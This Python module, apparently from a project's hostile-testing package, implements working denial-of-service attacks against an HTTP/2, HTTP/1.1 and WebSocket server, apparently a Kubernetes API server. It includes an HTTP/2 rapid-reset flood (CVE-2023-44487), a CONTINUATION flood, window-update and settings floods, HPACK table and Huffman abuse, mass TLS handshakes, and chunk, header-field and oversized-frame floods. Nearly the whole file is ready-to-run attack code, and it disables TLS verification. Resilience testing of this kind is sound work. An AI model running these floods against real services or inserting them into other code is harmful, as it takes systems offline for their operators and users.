"""Attacks on the wire: frames of HTTP/2, chunks and fields of HTTP/1.1, and frames of WebSockets.

Their kind: what a server counts as one frame, chunk or field may be much work (RFC 9113 §10.5).
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import struct
import time
from collections.abc import Iterator
from typing import Final

from hpack.hpack import encode_integer
from hpack.huffman import HuffmanEncoder
from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH

from kubechronicle.ops.development.hostile.site import NOBODY, Site

TIMEOUT: Final = 20.0
"""Seconds for one call of the socket; a server that no longer reads ends the attack."""
LISTENS: Final = 3.0
"""Seconds to listen for the server's last words."""
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE: Final = 4
MOST_STREAMS: Final = 900
MOST_FRAME: Final = 16_384
_WATCH: Final = "/api/v1/namespaces?watch=1&timeoutSeconds=30"
_SELF_REVIEW: Final = "/apis/authentication.k8s.io/v1/selfsubjectreviews"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """Return a field as a literal that is not indexed (RFC 7541 §6.2.2), without Huffman coding."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request_block(method: bytes = b"GET", path: bytes = b"/version") -> bytes:
    fields = {b":method": method, b":scheme": b"https", b":authority": b"x", b":path": path}
    return b"".join(literal(name, value) for name, value in fields.items())


@contextlib.contextmanager
def connected(site: Site, protocol: str) -> Iterator[ssl.SSLSocket]:
    context = ssl._create_unverified_context()
    context.set_alpn_protocols([protocol])
    with socket.create_connection(site.address, TIMEOUT) as raw, context.wrap_socket(raw) as wrapped:
        yield wrapped


def last_words(connection: ssl.SSLSocket) -> str:
    """Return how a server ends a connection of HTTP/2: with GOAWAY and its code, otherwise, or not yet."""
    received, until = b"", time.monotonic() + LISTENS
    with contextlib.suppress(OSError):
        connection.settimeout(LISTENS)
        while time.monotonic() < until and (data := connection.recv(1 << 16)):
            received += data
    while len(received) >= 9:
        length = int.from_bytes(received[:3], "big")
        if received[3] == GOAWAY:
            return f"GOAWAY {int.from_bytes(received[13:17], 'big')}"
        received = received[9 + length :]
    return "open" if time.monotonic() >= until else "closed"


def http2(site: Site, first: bytes, parts: Iterator[bytes], *, settled: float = 0.0) -> str:
    """Send the preface, the first frames, and after ``settled`` seconds all parts. Return how it ended."""
    with connected(site, "h2") as connection:
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + first)
        time.sleep(settled)
        with contextlib.suppress(OSError):  # the server has closed it, or reads no more
            for part in parts:
                connection.sendall(part)
        return last_words(connection)


def window_sizes(site: Site) -> str:
    """Open streams whose answers wait for a window, then change the initial size of all windows again and again."""
    closed = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    block = request_block()
    opened = [frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * number, block) for number in range(MOST_STREAMS)]
    entries = MOST_FRAME // 6
    sizes = b"".join(struct.pack(">HI", INITIAL_WINDOW_SIZE, number & 1) for number in range(entries))
    return http2(site, closed + b"".join(opened), iter([frame(SETTINGS, 0, 0, sizes)] * 8), settled=2.0)


def rapid_resets(site: Site) -> str:
    """Open a stream and reset it, 20,000 times (CVE-2023-44487)."""
    block, cancel = request_block(), struct.pack(">I", 8)
    parts = (
        frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * number, block) + frame(RESET, 0, 1 + 2 * number, cancel)
        for number in range(20_000)
    )
    return http2(site, frame(SETTINGS, 0, 0), _joined(parts))


def pings(site: Site) -> str:
    return http2(site, frame(SETTINGS, 0, 0), _joined(frame(PING, 0, 0, b"12345678") for _ in range(200_000)))


def empty_data(site: Site) -> str:
    """Send 200,000 empty frames of a body."""
    first = frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, request_block(b"POST", _SELF_REVIEW.encode()))
    return http2(site, first, _joined(frame(DATA, 0, 1) for _ in range(200_000)))


def window_updates(site: Site) -> str:
    """Open a stream whose answer waits for a window, and enlarge the window of others 200,000 times."""
    closed = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    first = closed + frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block())
    return http2(site, first, _joined(frame(WINDOW, 0, 0, struct.pack(">I", 1)) for _ in range(200_000)))


def window_bytes(site: Site) -> str:
    """Open streams whose answers wait for the window of the connection, and enlarge it byte by byte (CVE-2019-9511)."""
    first = frame(SETTINGS, 0, 0) + b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * number, request_block()) for number in range(MOST_STREAMS)
    )
    return http2(site, first, _joined(frame(WINDOW, 0, 0, struct.pack(">I", 1)) for _ in range(20_000)), settled=2.0)


def abandoned_watches(site: Site) -> str:
    """Open 900 watches on one connection, and close it."""
    block = request_block(path=_WATCH.encode()) + literal(b"authorization", f"Bearer {site.target.token}".encode())
    opened = [frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * number, block) for number in range(MOST_STREAMS)]
    with connected(site, "h2") as connection:
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + b"".join(opened))
        time.sleep(2.0)
    return "closed"


def handshakes(site: Site) -> str:
    """Send the ClientHello of 500 connections at once, and leave."""
    context = ssl._create_unverified_context()
    with contextlib.ExitStack() as stack:
        connections = []
        for _ in range(500):
            incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
            with contextlib.suppress(ssl.SSLWantReadError):
                context.wrap_bio(incoming, outgoing).do_handshake()
            raw = stack.enter_context(socket.create_connection(site.address, TIMEOUT))
            connections.append((raw, outgoing.read()))
        for raw, hello in connections:
            raw.sendall(hello)
        answered = sum(bool(raw.recv(1 << 16)) for raw, _ in connections)
    return f"{answered} answers"


def priorities(site: Site) -> str:
    payload = struct.pack(">IB", 0, 16)
    parts = (frame(PRIORITY, 0, 1 + 2 * (number % 1000), payload) for number in range(200_000))
    return http2(site, frame(SETTINGS, 0, 0), _joined(parts))


def continuations(site: Site) -> str:
    """Send a block of fields in 100,000 frames of one field each, which never ends (VU#421644)."""
    field = literal(b"a", b"b")
    first = frame(SETTINGS, 0, 0) + frame(HEADERS, END_STREAM, 1, request_block())
    return http2(site, first, _joined(frame(CONTINUATION, 0, 1, field) for _ in range(100_000)))


def indexed_fields(site: Site) -> str:
    """Send blocks of 16,000 fields of one byte each, which the static table has."""
    block = (request_block() + b"\x90" * MOST_FRAME)[:MOST_FRAME]  # accept-encoding: gzip, deflate
    parts = (frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * number, block) for number in range(100))
    return http2(site, frame(SETTINGS, 0, 0), parts)


def long_codes(site: Site) -> str:
    """Send fields whose text is in the longest codes of Huffman, of 28 bits a character."""
    coded = HuffmanEncoder(REQUEST_CODES, REQUEST_CODES_LENGTH).encode(b"\xf9" * 3000)
    length = encode_integer(len(coded), 7)
    length[0] |= 0x80
    block = request_block() + b"\0\1a" + bytes(length) + coded
    parts = (frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * number, block) for number in range(200))
    return http2(site, frame(SETTINGS, 0, 0), parts)


def changed_table(site: Site) -> str:
    """Send blocks of 1,500 fields that enter the table of the connection and drive out others."""
    fields = (b"\x40\1a\4%04d" % number for number in range(1500))
    block = (request_block() + b"".join(fields))[:MOST_FRAME]
    parts = (frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * number, block) for number in range(300))
    return http2(site, frame(SETTINGS, 0, 0), parts)


def malformed_windows(site: Site) -> str:
    """Open 20,000 streams that the server must reset: their windows are enlarged by nothing (CVE-2025-8671)."""
    block, nothing = request_block(path=b"/openapi/v2"), bytes(4)
    parts = (
        frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * number, block) + frame(WINDOW, 0, 1 + 2 * number, nothing)
        for number in range(20_000)
    )
    return http2(site, frame(SETTINGS, 0, 0), _joined(parts))


def documents(site: Site) -> str:
    """Request the largest documents 900 times at once, without compression."""
    block = request_block(path=b"/openapi/v2") + literal(
        b"authorization", site.headers(NOBODY)["authorization"].encode()
    )
    parts = (frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * number, block) for number in range(MOST_STREAMS))
    return http2(site, frame(SETTINGS, 0, 0), _joined(parts))


def _joined(frames: Iterator[bytes], size: int = 1 << 16) -> Iterator[bytes]:
    """Yield frames in pieces that are written at once."""
    gathered: list[bytes] = []
    length = 0
    for each in frames:
        gathered.append(each)
        length += len(each)
        if length >= size:
            yield b"".join(gathered)
            gathered, length = [], 0
    yield b"".join(gathered)


# HTTP/1.1


def http1(site: Site, head: list[str], body: bytes) -> str:
    """Send a request, and return the status of its answer."""
    credential = [f"{name}: {value}" for name, value in site.headers(NOBODY).items()]
    lines = [head[0], "host: x", *credential, *head[1:], "", ""]
    received = b""
    with connected(site, "http/1.1") as connection:
        with contextlib.suppress(OSError):
            connection.sendall("\r\n".join(lines).encode() + body)
        with contextlib.suppress(OSError):
            connection.settimeout(TIMEOUT)
            received = connection.recv(1 << 16)
    return received[9:12].decode() or "closed"


def chunks(site: Site) -> str:
    """Send a body of 300,000 bytes in as many chunks."""
    head = [f"POST {_SELF_REVIEW} HTTP/1.1", "content-type: application/json", "transfer-encoding: chunked"]
    return http1(site, head, b"1\r\n \r\n" * 300_000 + b"0\r\n\r\n")


def fields(site: Site) -> str:
    """Send 100,000 header fields of one letter each."""
    return http1(site, ["GET /version HTTP/1.1", *["a: b"] * 100_000], b"")


# WebSockets


def websocket(site: Site, parts: Iterator[bytes]) -> str:
    """Open a watch over a WebSocket as the administrator, send the parts, and return whether it stays open."""
    head = [
        f"GET {_WATCH} HTTP/1.1", "host: x", "origin: https://127.0.0.1", "connection: Upgrade", "upgrade: websocket",
        "sec-websocket-version: 13", "sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==",
        f"authorization: Bearer {site.target.token}", "", "",
    ]  # fmt: skip
    with connected(site, "http/1.1") as connection:
        connection.sendall("\r\n".join(head).encode())
        answer = connection.recv(1 << 16)
        if not answer.startswith(b"HTTP/1.1 101"):
            return answer[9:12].decode() or "closed"
        try:
            for part in parts:
                connection.sendall(part)
            connection.settimeout(LISTENS)
            while connection.recv(1 << 16):
                pass
        except TimeoutError:
            return "101, open"
        except OSError:
            pass
        return "101, closed"


def large_frame(site: Site) -> str:
    """Send one frame of 30 MB on a watch."""
    size = 30_000_000
    payload = bytes(1 << 16)
    header = b"\x81\xff" + struct.pack(">Q", size) + b"mask"
    return websocket(site, iter([header, *[payload] * (size // len(payload)), payload[: size % len(payload)]]))


def small_frames(site: Site) -> str:
    """Send 300,000 empty frames on a watch."""
    return websocket(site, _joined(iter([b"\x82\x80mask"] * 300_000)))
